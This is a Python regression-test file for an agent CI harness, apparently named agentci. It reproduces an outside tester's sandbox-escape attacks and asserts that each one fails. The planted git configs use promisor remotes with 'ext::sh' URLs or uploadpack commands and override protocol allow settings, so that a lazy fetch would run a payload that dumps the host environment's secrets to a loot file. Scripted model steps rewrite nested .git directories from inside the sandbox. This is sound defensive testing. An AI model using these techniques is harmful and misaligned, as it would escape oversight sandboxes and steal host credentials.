"""agentci's host git never reaches a remote, so a promisor remote a repository's config names
runs nothing on the host (real ``agentci run``, bubblewrap, canary secrets in agentci's
environment, ``escape/`` outside the workspace as the target).

The outside tester's reproductions (atk-sec2 a1, a2, a2b, a3, a4): a repository whose config
has ``remote.<r>.promisor=true`` and an ``ext::`` URL with ``protocol.ext.allow=always`` (a
per-protocol key outranks agentci's ``protocol.allow=never``), and a commit agentci's git reads
that is missing: git fetches it lazily, running the URL's command on the host. The repository
is the nested one a test module makes in the baseline verify (repository content alone), a
vendored clone or a submodule whose ``.git`` the model's test module rewrites in the sandbox
(the model alone), one made by task one's verify for task two's baseline, or the checkout's
own ``.git/config`` (``isolation: worktree``); plus the ``uploadpack`` variant
(``protocol.file.allow=always``, ``remote.<r>.uploadpack``).
"""

from __future__ import annotations

from pathlib import Path

from attack_case import AttackCase, make_attack, tool

from agentci.testing.repo import commit_repo, git

CALC = {"calc.py": "def add(a, b):\n    return a - b\n"}
TEST_ADD = (
    "import unittest\nfrom calc import add\n\n\nclass T(unittest.TestCase):\n"
    "    def test_add(self):\n        self.assertEqual(add(2, 3), 5)\n"
)
FIX = tool("replace", file_path="calc.py", old_string="a - b", new_string="a + b")
VERIFY = {"verify": {"command": "python3 -m unittest"}}
MISSING = "1234567890abcdef1234567890abcdef12345678"

#: Python (run in the sandbox) that makes ``git_dir``'s config fetch lazily through ``ext::``,
#: the fetch running a payload that writes agentci's environment to ``loot``.
PLANT = """
def _plant(git_dir, loot):
    import pathlib
    git_dir = pathlib.Path(git_dir)
    payload = git_dir / "payload.sh"
    payload.write_text("#!/bin/sh\\nenv > " + loot + "\\n")
    with open(git_dir / "config", "a") as fh:
        fh.write('[remote "origin"]\\n\\turl = ext::sh ' + str(payload) + '\\n\\tpromisor = true\\n'
                 '[protocol "ext"]\\n\\tallow = always\\n')
"""


def _loot(root: Path) -> Path:
    """Where a case made in ``root`` keeps what a payload steals (``AttackCase.loot``)."""
    return root / "escape" / "loot"


def _ran(case: AttackCase, stderr: str) -> None:
    assert not case.loot.exists(), (
        f"the promisor's command ran on the host:\n{case.loot.read_text()[:300]}\n{stderr[-2000:]}"
    )


def _nested_repo_module(where: str, loot: Path) -> str:
    """Python that makes ``where`` a git repository whose HEAD names a missing commit and whose
    config fetches it lazily (run by a verify, in the sandbox)."""
    return (
        PLANT
        + f'''
def _nested():
    import pathlib, subprocess
    top = pathlib.Path(__file__).resolve().parent / "{where}"
    if (top / ".git").exists():
        return
    top.mkdir(parents=True, exist_ok=True)
    (top / "README").write_text("lib\\n")
    g = ["git", "-c", "user.name=x", "-c", "user.email=x@x", "-C", str(top)]
    for args in (["init", "-q"], ["add", "README"], ["commit", "-qm", "lib"]):
        subprocess.run(g + args, check=True, capture_output=True)
    ref = (top / ".git" / "HEAD").read_text().split()[1]
    (top / ".git" / ref).write_text("{MISSING}\\n")
    _plant(top / ".git", "{loot}")


_nested()
'''
    )


def test_a_nested_repository_the_baseline_verify_makes_fetches_nothing(tmp_path: Path) -> None:
    """a1: repository content alone (a test module run by the baseline verify)."""
    module = _nested_repo_module("vendor/lib", _loot(tmp_path))
    files = {**CALC, "test_calc.py": module + "\n" + TEST_ADD}
    case = make_attack(tmp_path, [FIX, {"text": "done"}], VERIFY, files=files)
    run = case.run()
    _ran(case, run.stderr)
    assert case.leaked(run) == []


def _model_test(body: str) -> str:
    """A test module the model writes: ``body`` at import, a test that passes once
    ``ready.txt`` exists (verify fails once: a snapshot is taken after the damage)."""
    return (
        PLANT + body + "\n\nimport pathlib, unittest\n\n\nclass R(unittest.TestCase):\n"
        "    def test_ready(self):\n"
        "        self.assertTrue((pathlib.Path(__file__).parent / 'ready.txt').exists())\n"
    )


def _model_script(test: str) -> list[object]:
    return [
        tool("write_file", file_path="test_zz_more.py", content=test),
        FIX,
        {"text": "done"},
        tool("write_file", file_path="ready.txt", content="ok\n"),
        {"text": "done"},
        {"text": "done"},
    ]


VENDORED = """
import os, pathlib
NESTED = pathlib.Path(__file__).resolve().parent / "vendor" / "lib" / ".git"
if not (NESTED / "payload.sh").exists():
    commit = (NESTED / (NESTED / "HEAD").read_text().split()[1]).read_text().strip()
    obj = NESTED / "objects" / commit[:2] / commit[2:]
    os.chmod(obj, 0o644)
    obj.unlink()
    _plant(NESTED, "%s")
"""


def test_a_vendored_clone_the_models_test_rewrites_fetches_nothing(tmp_path: Path) -> None:
    """a2: the model alone; the workspace holds an untracked nested clone."""
    script = _model_script(_model_test(VENDORED % _loot(tmp_path)))
    case = make_attack(tmp_path, script, VERIFY, files={**CALC, "test_calc.py": TEST_ADD})
    commit_repo(case.repo / "vendor" / "lib", {"README": "a vendored clone\n"})
    run = case.run()
    _ran(case, run.stderr)
    assert case.leaked(run) == []


SUBMODULE = """
import pathlib, subprocess
LIB = pathlib.Path(__file__).resolve().parent / "lib"
if (LIB / ".git").is_file():
    (LIB / ".git").unlink()
    subprocess.run(["git", "init", "-q", str(LIB)], check=True, capture_output=True)
    _plant(LIB / ".git", "%s")
"""


def test_a_submodule_whose_gitfile_the_models_test_replaces_fetches_nothing(
    tmp_path: Path,
) -> None:
    """a2b: the model alone; the workspace has an ordinary checked-out submodule."""
    src = commit_repo(tmp_path / "libsrc", {"README": "a library\n"})
    root = tmp_path / "case"
    script = _model_script(_model_test(SUBMODULE % _loot(root)))
    case = make_attack(root, script, VERIFY, files={**CALC, "test_calc.py": TEST_ADD})
    git(case.repo, "submodule", "add", "-q", str(src), "lib")
    git(case.repo, "commit", "-qm", "a submodule")
    run = case.run()
    _ran(case, run.stderr)
    assert case.leaked(run) == []


def test_a_repository_task_one_makes_fetches_nothing_in_task_two(tmp_path: Path) -> None:
    """a3: the model alone, an ordinary workspace, a recipe with two tasks: task one's verify
    makes the repository, task two's baseline adopts it."""
    module = _nested_repo_module("vendor/x", _loot(tmp_path))
    script = [
        tool("replace", file_path="calc.py", old_string="a - b\n", new_string="a + b\n" + module),
        {"text": "done"},
        tool("replace", file_path="calc.py", old_string="a / b\n", new_string="a * b\n"),
        {"text": "done"},
    ]
    tasks = [
        {"name": "one", "verify": {"command": "python3 -m unittest test_one"}},
        {"name": "two", "verify": {"command": "python3 -m unittest test_two"}},
    ]
    calc = CALC["calc.py"] + "\n\ndef mul(a, b):\n    return a / b\n"
    mul = TEST_ADD.replace("add", "mul").replace("5)", "6)")
    files = {"calc.py": calc, "test_one.py": TEST_ADD, "test_two.py": mul}
    case = make_attack(tmp_path, script, {"tasks": tasks}, files=files)
    run = case.run()
    _ran(case, run.stderr)
    assert case.leaked(run) == []


def _checkout_fetches_lazily(case: AttackCase, config: str) -> None:
    """The checkout's HEAD names a commit whose object is missing, and ``config`` (formatted
    with the payload's path and the checkout's path) is appended to its ``.git/config``."""
    (case.repo / "calc.py").write_text("def add(a, b):\n    return a - b  # two\n")
    git(case.repo, "commit", "-qam", "two")
    head = git(case.repo, "rev-parse", "HEAD").strip()
    (case.repo / ".git" / "objects" / head[:2] / head[2:]).unlink()
    payload = case.root / "payload.sh"
    payload.write_text(f"#!/bin/sh\nenv > {case.loot}\n")
    payload.chmod(0o755)
    with open(case.repo / ".git" / "config", "a") as fh:
        fh.write(config.format(payload=payload, repo=case.repo))


def test_the_checkouts_own_promisor_remote_fetches_nothing_for_a_worktree(tmp_path: Path) -> None:
    """a4: the checkout's .git/config, ``isolation: worktree``."""
    recipe = {"workspace": {"path": ".", "isolation": "worktree"}}
    case = make_attack(tmp_path, [FIX, {"text": "done"}], recipe, files={**CALC})
    _checkout_fetches_lazily(
        case,
        '[remote "origin"]\n\turl = ext::sh {payload}\n\tpromisor = true\n'
        '[protocol "ext"]\n\tallow = always\n',
    )
    run = case.run()
    _ran(case, run.stderr)
    assert case.leaked(run) == []


def test_the_checkouts_promisor_upload_pack_command_runs_nothing(tmp_path: Path) -> None:
    """The ``uploadpack`` variant: a local remote, ``protocol.file.allow=always``."""
    recipe = {"workspace": {"path": ".", "isolation": "worktree"}}
    case = make_attack(tmp_path, [FIX, {"text": "done"}], recipe, files={**CALC})
    _checkout_fetches_lazily(
        case,
        '[remote "origin"]\n\turl = {repo}\n\tpromisor = true\n\tuploadpack = sh {payload}\n'
        '[protocol "file"]\n\tallow = always\n',
    )
    run = case.run()
    _ran(case, run.stderr)
    assert case.leaked(run) == []
